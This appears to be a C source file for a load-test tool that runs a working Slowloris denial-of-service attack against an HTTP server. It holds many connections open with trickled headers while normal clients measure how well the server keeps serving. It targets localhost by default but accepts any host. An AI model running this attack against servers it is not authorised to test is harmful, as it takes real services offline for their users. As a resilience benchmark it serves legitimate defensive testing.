/*
 * Slowloris against an HTTP server, with normal requests beside it: how
 * well does the server keep serving while slow connections sit on it?
 * Written on colony (a coroutine per connection).
 *
 *   slowloris [-h host] [-p port] [-s slow] [-i trickle-ms]
 *             [-c clients] [-d seconds] [-t timeout-ms]
 *
 * slow: connections that each send the start of a request head, then one
 * more header line every trickle-ms, never the blank line that ends the
 * head. One that the server closes (or answers) is opened again at once,
 * so that `slow` stay open, as an attacker would keep them. Once all of
 * them are open, `clients` coroutines send normal requests (GET /, kept
 * alive; a new connection after the server closed one) one after another
 * for `seconds`, and every request ends up in one class: answered 200,
 * answered with another status (503...), failed (connect error, reset,
 * EOF before the answer), or timed out (no answer in timeout-ms).
 *
 * Prints one line:
 *   slowloris: S slow connections, O open at the end, C closed by the
 *   server (A of them answered), R connect errors; normal: N clients,
 *   D s: K answered 200 (X/s), M other status, E failed, T timed out;
 *   latency p50 .. us, p99 .. us
 * Exit status 0, or 1 if no normal request was answered 200.
 *
 * Defaults: 127.0.0.1:8080, 1000 slow connections trickling every 1000 ms,
 * 50 clients, 10 s, 5000 ms.
 */
#define _GNU_SOURCE 1
#include <colony.h>

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define MS 1000000LL
#define HBUCKETS 20000 /* 10 us each: 0..200 ms, then one for the rest */

typedef struct {
    const char *host;
    int port, slow, trickle_ms, clients, seconds, timeout_ms;
    struct sockaddr_in addr;
} opts_t;

static const opts_t *opt;
static int stop;                 /* atomic: the slow connections close and end */
static int slow_up;              /* atomic: slow coroutines whose first connection is open */
static int64_t slow_open;        /* atomic: slow connections open now */
static int64_t slow_closed;      /* atomic: closed by the server */
static int64_t slow_answered;    /* atomic: of those, answered first (a 503, a 408...) */
static int64_t slow_connerr;     /* atomic */

static int dial(int64_t deadline) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -errno;
    int rc = co_connect(fd, (const struct sockaddr *)&opt->addr, sizeof opt->addr, deadline);
    if (rc < 0) {
        co_close(fd);
        return rc;
    }
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    return fd;
}

/* ---- the slow connections --------------------------------------------------- */

static void slow_conn(void *arg) {
    (void)arg;
    static const char start[] = "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: slowloris\r\n";
    static const char line[] = "X-Wait: a\r\n";
    bool first = true;
    while (!__atomic_load_n(&stop, __ATOMIC_RELAXED)) {
        int fd = dial(co_deadline_after(5000 * MS));
        if (fd < 0 || co_write(fd, start, sizeof start - 1, co_deadline_after(1000 * MS)) < 0) {
            __atomic_add_fetch(&slow_connerr, 1, __ATOMIC_RELAXED);
            if (fd >= 0)
                co_close(fd);
            co_sleep(100 * MS);
            continue;
        }
        __atomic_add_fetch(&slow_open, 1, __ATOMIC_RELAXED);
        if (first) {
            first = false;
            __atomic_add_fetch(&slow_up, 1, __ATOMIC_RELAXED);
        }
        char b[512];
        for (;;) {
            if (__atomic_load_n(&stop, __ATOMIC_RELAXED))
                break;
            ssize_t n = co_read(fd, b, sizeof b, co_deadline_after(opt->trickle_ms * MS));
            if (n == CO_ETIMEDOUT) { /* the server still waits: one more line */
                if (co_write(fd, line, sizeof line - 1, co_deadline_after(1000 * MS)) < 0) {
                    __atomic_add_fetch(&slow_closed, 1, __ATOMIC_RELAXED);
                    break;
                }
                continue;
            }
            __atomic_add_fetch(&slow_closed, 1, __ATOMIC_RELAXED);
            if (n > 0)
                __atomic_add_fetch(&slow_answered, 1, __ATOMIC_RELAXED);
            break; /* answered, EOF or reset: open another */
        }
        __atomic_sub_fetch(&slow_open, 1, __ATOMIC_RELAXED);
        co_close(fd);
    }
}

/* ---- the normal clients -------------------------------------------------------- */

enum { A_200, A_STATUS, A_FAILED, A_TIMEOUT, A_N };

typedef struct {
    int64_t end;
    int64_t count[A_N];
    uint32_t *hist;
    co_waitgroup_t *wg;
} client_t;

/* Read one response: its status, or a negative code (CO_ETIMEDOUT, EOF as
 * -EPIPE, ...). *close: the server said Connection: close. Whatever came
 * after it is dropped (we never pipeline). */
static int read_response(int fd, char *b, size_t cap, int64_t dl, bool *close) {
    size_t have = 0;
    for (;;) {
        char *e = have >= 4 ? memmem(b, have, "\r\n\r\n", 4) : NULL;
        if (e) {
            *e = 0;
            size_t hl = (size_t)(e - b) + 4;
            const char *cl = strcasestr(b, "\r\nContent-Length:");
            size_t body = cl ? (size_t)atol(cl + 17) : 0;
            *close = strcasestr(b, "\r\nConnection: close") != NULL;
            int status = strncmp(b, "HTTP/1.", 7) == 0 && strlen(b) > 12 ? atoi(b + 9) : -EPROTO;
            size_t got = have - hl;
            while (got < body) { /* the body: read and dropped */
                ssize_t n = co_read(fd, b, cap < body - got ? cap : body - got, dl);
                if (n <= 0)
                    return n == 0 ? -EPIPE : (int)n;
                got += (size_t)n;
            }
            return status;
        }
        if (have == cap - 1)
            return -ENOBUFS;
        ssize_t n = co_read(fd, b + have, cap - 1 - have, dl);
        if (n <= 0)
            return n == 0 ? -EPIPE : (int)n;
        have += (size_t)n;
        b[have] = 0;
    }
}

static void client(void *arg) {
    client_t *c = arg;
    static const char rq[] = "GET / HTTP/1.1\r\nHost: x\r\n\r\n";
    char b[4096];
    int fd = -1;
    for (;;) {
        int64_t t0 = co_now();
        if (t0 >= c->end)
            break;
        int64_t dl = t0 + opt->timeout_ms * MS;
        int rc;
        bool close = true;
        if (fd < 0)
            fd = dial(dl);
        if (fd < 0)
            rc = fd;
        else if ((rc = (int)co_write(fd, rq, sizeof rq - 1, dl)) >= 0)
            rc = read_response(fd, b, sizeof b, dl, &close);
        int cls = rc == 200 ? A_200 : rc > 0 ? A_STATUS : rc == CO_ETIMEDOUT ? A_TIMEOUT : A_FAILED;
        c->count[cls]++;
        if (cls == A_200) {
            int64_t us10 = (co_now() - t0) / 10000;
            c->hist[us10 < HBUCKETS ? us10 : HBUCKETS]++;
        }
        if (cls != A_200 || close) {
            if (fd >= 0)
                co_close(fd);
            fd = -1;
            if (cls == A_FAILED)
                co_sleep(10 * MS); /* no busy loop on a server that is gone */
        }
    }
    if (fd >= 0)
        co_close(fd);
    co_waitgroup_done(c->wg);
}

static int run(void *arg) {
    (void)arg;
    co_attr_t small = {.stack_size = 32 * 1024};
    for (int i = 0; i < opt->slow; i++) {
        int rc = co_go_with(&small, slow_conn, NULL);
        if (rc < 0) {
            fprintf(stderr, "slowloris: co_go: %s\n", co_strerror(rc));
            return 1;
        }
    }
    /* every slow connection open once (10 s at most), then a moment for
     * the server to take the last of them */
    for (int i = 0; i < 1000 && __atomic_load_n(&slow_up, __ATOMIC_RELAXED) < opt->slow; i++)
        co_sleep(10 * MS);
    if (opt->slow)
        co_sleep(200 * MS);
    co_waitgroup_t wg = CO_WAITGROUP_INIT;
    client_t *cs = calloc((size_t)opt->clients, sizeof *cs);
    int64_t t0 = co_now(), end = t0 + (int64_t)opt->seconds * 1000 * MS;
    for (int i = 0; i < opt->clients; i++) {
        cs[i] = (client_t){.end = end, .wg = &wg, .hist = calloc(HBUCKETS + 1, sizeof(uint32_t))};
        co_waitgroup_add(&wg, 1);
        if (co_go(client, &cs[i]) < 0)
            co_waitgroup_done(&wg);
    }
    co_waitgroup_wait(&wg);
    double secs = (double)(co_now() - t0) / 1e9;
    int64_t open = __atomic_load_n(&slow_open, __ATOMIC_RELAXED);
    __atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
    int64_t n[A_N] = {0};
    uint64_t *h = calloc(HBUCKETS + 1, sizeof *h);
    for (int i = 0; i < opt->clients; i++) {
        for (int k = 0; k < A_N; k++)
            n[k] += cs[i].count[k];
        for (int b = 0; b <= HBUCKETS; b++)
            h[b] += cs[i].hist[b];
        free(cs[i].hist);
    }
    double pct[2] = {0.50, 0.99}, val[2] = {0, 0};
    for (int k = 0; k < 2; k++) {
        uint64_t want = (uint64_t)((double)n[A_200] * pct[k]), acc = 0;
        for (int b = 0; b <= HBUCKETS && n[A_200]; b++) {
            acc += h[b];
            if (acc > want) {
                val[k] = (b + 0.5) * 10.0;
                break;
            }
        }
    }
    free(h);
    free(cs);
    printf("slowloris: %d slow connections, %lld open at the end, %lld closed by the server "
           "(%lld of them answered), %lld connect errors; normal: %d clients, %.2f s: "
           "%lld answered 200 (%.0f/s), %lld other status, %lld failed, %lld timed out; "
           "latency p50 %.0f us, p99 %.0f us\n",
           opt->slow, (long long)open, (long long)slow_closed, (long long)slow_answered,
           (long long)slow_connerr, opt->clients, secs, (long long)n[A_200],
           (double)n[A_200] / secs, (long long)n[A_STATUS], (long long)n[A_FAILED],
           (long long)n[A_TIMEOUT], val[0], val[1]);
    fflush(stdout);
    /* the slow coroutines see `stop` within a trickle interval */
    for (int i = 0; i < 300 && co_count() > 1; i++)
        co_sleep(10 * MS);
    return n[A_200] == 0;
}

int main(int argc, char **argv) {
    static opts_t o = {.host = "127.0.0.1", .port = 8080, .slow = 1000, .trickle_ms = 1000,
                       .clients = 50, .seconds = 10, .timeout_ms = 5000};
    int c;
    while ((c = getopt(argc, argv, "h:p:s:i:c:d:t:")) != -1) {
        switch (c) {
        case 'h': o.host = optarg; break;
        case 'p': o.port = atoi(optarg); break;
        case 's': o.slow = atoi(optarg); break;
        case 'i': o.trickle_ms = atoi(optarg); break;
        case 'c': o.clients = atoi(optarg); break;
        case 'd': o.seconds = atoi(optarg); break;
        case 't': o.timeout_ms = atoi(optarg); break;
        default:
            fprintf(stderr,
                    "usage: %s [-h host] [-p port] [-s slow] [-i trickle-ms] [-c clients]\n"
                    "          [-d seconds] [-t timeout-ms]\n",
                    argv[0]);
            return 2;
        }
    }
    if (o.slow < 0 || o.trickle_ms <= 0 || o.clients <= 0 || o.seconds < 0 || o.timeout_ms <= 0 ||
        o.port <= 0 || o.port > 65535) {
        fprintf(stderr, "slowloris: bad arguments\n");
        return 2;
    }
    o.addr.sin_family = AF_INET;
    o.addr.sin_port = htons((uint16_t)o.port);
    if (inet_pton(AF_INET, o.host, &o.addr.sin_addr) != 1) {
        fprintf(stderr, "slowloris: bad host %s\n", o.host);
        return 2;
    }
    opt = &o;
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    signal(SIGPIPE, SIG_IGN);
    int rc = co_main(run, NULL);
    co_shutdown();
    return rc;
}
